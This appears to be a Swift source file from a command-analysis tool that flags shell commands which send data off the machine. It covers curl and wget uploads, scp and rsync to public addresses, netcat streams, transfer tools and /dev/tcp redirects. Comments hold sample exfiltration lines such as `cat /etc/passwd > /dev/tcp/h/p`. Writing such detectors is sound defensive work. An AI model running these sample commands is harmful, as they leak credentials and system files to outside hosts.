internal import CaseModel

/// Data leaves to somewhere that is not one's own.
enum ExfiltrationSigns {
  static func detect(_ reading: CommandReading) -> [CommandSign] {
    reading.stages.indices.compactMap { judge($0, reading) }
  }

  private static func judge(_ index: Int, _ reading: CommandReading) -> CommandSign? {
    let stage = reading.stages[index]
    switch stage.name {
    case "curl", "wget", "httpie", "http": return upload(index, stage, reading)
    case "scp", "rsync", "sftp": return copy(stage)
    case "nc", "ncat", "netcat": return stream(index, stage, reading)
    case "croc", "wormhole", "magic-wormhole", "megaput", "megatools", "transfer", "gofile":
      return CommandSign(.exfiltration, .medium, typed: .low, "sends with \(stage.name)")
    default: return redirected(index, stage, reading)
    }
  }

  /// An upload that carries a file or what another program printed, to a number or a place without an owner.
  private static func upload(_ index: Int, _ stage: CommandStage, _ reading: CommandReading) -> CommandSign? {
    let carries =
      stage.value(of: "-T", "--upload-file") != nil || stage.has("--post-file", "--body-file")
      || stage.arguments.contains {
        $0.contains("@") && !$0.hasPrefix("http") && ($0.hasPrefix("@") || $0.contains("=@"))
      }
      || carriesSubstitution(stage, reading)
    let fed =
      reading.stages.contains { $0.feeds.contains(index) }
      && stage.arguments.contains { $0 == "@-" || $0 == "-" || $0.contains("=@-") }
    guard carries || fed, let address = FetchSigns.addresses(of: stage).first, !address.isLoopback, !address.isPrivate
    else { return nil }
    let isForeign = address.isPublicNumber || address.isDropPlace
    guard isForeign || carriesSecret(stage, reading) else { return nil }
    return CommandSign(.exfiltration, .high, typed: .medium, "sends data to \(address.host)")
  }

  /// `curl -d "$(cat x)" …`, `curl http://h/$(whoami)`.
  private static func carriesSubstitution(_ stage: CommandStage, _ reading: CommandReading) -> Bool {
    stage.substituted.contains { index in
      ["cat", "base64", "tar", "env", "printenv", "id", "whoami", "uname", "ifconfig", "ip", "gzip", "xxd"].contains(
        reading.stages[index].name)
    }
  }

  private static func carriesSecret(_ stage: CommandStage, _ reading: CommandReading) -> Bool {
    let files =
      stage.arguments.map { argument in String(argument.split(separator: "@").last ?? "") }
      + [stage.value(of: "-T", "--upload-file")].compactMap { $0 }
    return files.contains { CredentialSigns.isShadow($0) || CredentialSigns.isSecret($0) }
      || stage.substituted.contains {
        reading.stages[$0].operands.contains { CredentialSigns.isShadow($0) || CredentialSigns.isSecret($0) }
      }
  }

  /// To a public number; names are somebody's own servers more often than not.
  private static func copy(_ stage: CommandStage) -> CommandSign? {
    guard let last = stage.operands.last, let colon = last.firstIndex(of: ":"), !last.hasPrefix("/") else { return nil }
    let host = String(last[..<colon].split(separator: "@").last ?? "")
    guard AddressRange.parts(host) != nil, !AddressRange.isPrivate(host) else { return nil }
    let secret = stage.operands.first { CredentialSigns.isShadow($0) || CredentialSigns.isSecret($0) }
    return CommandSign(
      .exfiltration, secret == nil ? .medium : .high, typed: secret == nil ? .info : .medium,
      "copies \(secret ?? "files") to \(host)")
  }

  private static func stream(_ index: Int, _ stage: CommandStage, _ reading: CommandReading) -> CommandSign? {
    guard !stage.hasLetter("l"), !stage.hasLetter("z"), let host = stage.operands.first,
      AddressRange.parts(host) != nil, !AddressRange.isPrivate(host)
    else { return nil }
    let sends =
      stage.redirections.contains { $0.operation == "<" && !$0.target.text.hasPrefix("/dev/") }
      || reading.stages.contains {
        $0.feeds.contains(index) && ["tar", "cat", "gzip", "dd", "base64", "openssl"].contains($0.name)
      }
    return sends ? CommandSign(.exfiltration, .high, typed: .medium, "streams data to \(host)") : nil
  }

  /// `cat /etc/passwd > /dev/tcp/h/p`.
  private static func redirected(_ index: Int, _ stage: CommandStage, _ reading: CommandReading) -> CommandSign? {
    guard ["cat", "tar", "gzip", "dd", "base64"].contains(stage.name),
      let target = stage.outputs.first(where: { $0.hasPrefix("/dev/tcp/") || $0.hasPrefix("/dev/udp/") })
    else { return nil }
    return CommandSign(.exfiltration, .high, typed: .medium, "streams data to \(target)")
  }
}
